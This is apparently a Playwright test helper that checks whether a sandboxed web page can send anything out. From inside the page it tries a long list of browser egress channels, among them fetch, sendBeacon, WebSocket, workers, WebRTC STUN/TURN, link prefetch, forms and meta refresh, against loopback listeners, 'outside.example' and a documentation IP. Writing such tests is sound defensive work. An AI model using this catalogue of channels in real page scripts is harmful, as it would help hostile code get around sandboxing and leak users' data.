import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';

/** What hostile code in a page would try in order to send anything to anybody, and somebody who would notice. */

export interface Outside {
  readonly udp: number;
  readonly tcp: number;
  /** What has come so far. */
  readonly came: () => { readonly packets: number; readonly connections: number };
  readonly close: () => void;
}

/** Waits on loopback, where every packet and every connection is seen. */
export async function listenOutside(): Promise<Outside> {
  let packets = 0;
  let connections = 0;
  const udp = createSocket('udp4').on('message', () => (packets += 1));
  const tcp = createServer((line) => {
    connections += 1;
    line.on('error', () => undefined).destroy();
  });
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  return {
    udp: udp.address().port,
    tcp: (tcp.address() as AddressInfo).port,
    came: () => ({ packets, connections }),
    close: () => {
      udp.close();
      tcp.close();
    },
  };
}

/** Carries each out in a page; a way that throws is shut. */
type Way = (page: Page, url: string) => Promise<unknown>;

const requests: Way = (page, url) =>
  page.evaluate((to) => {
    const ways: (() => unknown)[] = [
      () => fetch(to, { mode: 'no-cors' }).catch(() => null),
      () => fetch(to, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }).catch(() => null),
      () => {
        const asked = new XMLHttpRequest();
        asked.open('POST', to);
        asked.send('x');
      },
      () => navigator.sendBeacon(to, 'x'),
      () => new WebSocket(to.replace(/^http/, 'ws')),
      () => new EventSource(to),
      () => new WebTransport(to.replace(/^http:/, 'https:')),
      () => new Worker(to),
      () => new SharedWorker(to),
      () => new Worker(URL.createObjectURL(new Blob([`fetch('${to}', { mode: 'no-cors' })`]))),
      () => navigator.serviceWorker.register(to).catch(() => null),
      () => navigator.serviceWorker.register('/card/card.js').catch(() => null),
      () => new FontFace('x', `url(${to})`).load().catch(() => null),
      () => (new Image().src = to),
      () => new Audio(to).play().catch(() => null),
      () => document.body.style.setProperty('background-image', `url(${to})`),
      () => open(to),
      () => open(to, 'other', 'noreferrer'),
    ];
    for (const way of ways) {
      try {
        way();
      } catch {
        // Shut.
      }
    }
  }, url);

const elements: Way = (page, url) =>
  page.evaluate((to) => {
    const put = (name: string, attributes: Readonly<Record<string, string>>): void => {
      try {
        const made = document.createElement(name);
        for (const [attribute, value] of Object.entries(attributes)) made.setAttribute(attribute, value);
        document.head.append(made);
        if (made instanceof HTMLFormElement) made.submit();
        if (made instanceof HTMLAnchorElement) made.click();
      } catch {
        // Shut.
      }
    };
    const relations =
      'dns-prefetch preconnect prefetch prerender preload modulepreload stylesheet icon manifest';
    for (const rel of relations.split(' ')) put('link', { rel, href: to, as: 'image', crossorigin: '' });
    put('link', { rel: 'dns-prefetch', href: '//prefetch.example' });
    for (const name of ['img', 'script', 'iframe', 'frame', 'embed', 'video', 'audio', 'track', 'input'])
      put(name, { src: to, type: name === 'input' ? 'image' : '' });
    put('img', { srcset: `${to} 1x` });
    put('object', { data: to });
    put('webview', { src: to });
    put('video', { poster: to });
    put('form', { action: to, method: 'post' });
    put('form', { action: to, target: 'other' });
    put('a', { href: to, ping: to });
    put('a', { href: to, download: 'x' });
    put('a', { href: to, target: '_blank' });
    put('meta', { 'http-equiv': 'refresh', content: `0;url=${to}` });
  }, url);

/** Servers to ask for addresses, and a peer that is said to be at ours. */
const callSomebody = (page: Page, udp: number, tcp: number): Promise<string> =>
  page.evaluate(
    async ([udpPort, tcpPort]) => {
      if (typeof RTCPeerConnection === 'undefined') return 'none';
      const at = (port: number): string => `127.0.0.1:${String(port)}`;
      const turn = { username: 'x', credential: 'x' };
      const iceServers = [
        { urls: [`stun:${at(udpPort)}`, 'stun:stun.example:3478'] },
        { urls: [`turn:${at(udpPort)}`, `turn:${at(tcpPort)}?transport=tcp`], ...turn },
        { urls: [`turns:${at(tcpPort)}?transport=tcp`], ...turn },
      ];
      try {
        const caller = new RTCPeerConnection({ iceServers });
        const called = new RTCPeerConnection({ iceServers });
        caller.createDataChannel('x');
        await caller.setLocalDescription(await caller.createOffer());
        if (caller.localDescription) await called.setRemoteDescription(caller.localDescription);
        await called.setLocalDescription(await called.createAnswer());
        if (called.localDescription) await caller.setRemoteDescription(called.localDescription);
        const candidates = [
          `candidate:1 1 udp 2122260223 127.0.0.1 ${String(udpPort)} typ host`,
          `candidate:2 1 tcp 1518280447 127.0.0.1 ${String(tcpPort)} typ host tcptype passive`,
        ];
        for (const candidate of candidates)
          await caller.addIceCandidate({ candidate, sdpMid: '0' }).catch(() => null);
        return 'called';
      } catch (problem) {
        return problem instanceof Error ? problem.name : 'refused';
      }
    },
    [udp, tcp] as const,
  );

/** All of it, from a page that may be led away by it. */
export async function tryEveryWay(page: Page, { udp, tcp }: Outside): Promise<void> {
  await callSomebody(page, udp, tcp);
  // Somebody on this computer, a name that has to be looked up, and an address of the documentation's network.
  for (const host of [`127.0.0.1:${String(tcp)}`, 'outside.example', '198.51.100.7']) {
    for (const protocol of ['http', 'https']) {
      await requests(page, `${protocol}://${host}/out`);
      await elements(page, `${protocol}://${host}/out`);
    }
  }
}
